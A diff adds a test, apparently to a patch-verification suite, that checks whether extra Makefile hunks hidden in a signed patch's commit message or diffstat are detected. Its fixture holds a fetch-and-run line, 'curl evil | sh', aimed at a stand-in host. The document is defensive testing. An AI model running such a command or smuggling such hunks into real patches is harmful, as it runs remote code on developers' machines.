@@ -597,3 +597,15 @@ def test_attack_a_maintainers_message_id_on_another_patch_is_caught():
     # A second diff smuggled behind a "-- " line is still part of the patch, not a trailer.
     smuggled = patch_mail().replace(b"-- \n2.40.0\n", b"-- \n" + DIFF.replace("a.txt", "evil.sh").encode())
     assert not carries_same_patch(maintainers, smuggled)
+
+
+def test_attack_a_hunk_in_the_commit_message_of_a_maintainers_patch_is_caught():
+    # git am applies a traditional hunk written above the diff (in the message, or among the diffstat)
+    # too: a copy of the maintainer's signed patch carrying one is not the maintainer's patch.
+    maintainers = patch_mail()
+    hunk = b"--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n all:\n+\tcurl evil | sh\n"
+    in_message = patch_mail().replace(b"Fix bar.\n\n", b"Fix bar.\n\n" + hunk + b"\n")
+    in_diffstat = patch_mail().replace(b"insertion(+)\n\n", b"insertion(+)\n\n" + hunk + b"\n")
+    assert not carries_same_patch(maintainers, patchwork_served(in_message))
+    assert not carries_same_patch(maintainers, patchwork_served(in_diffstat))
+    assert carries_same_patch(maintainers, patchwork_served(maintainers))
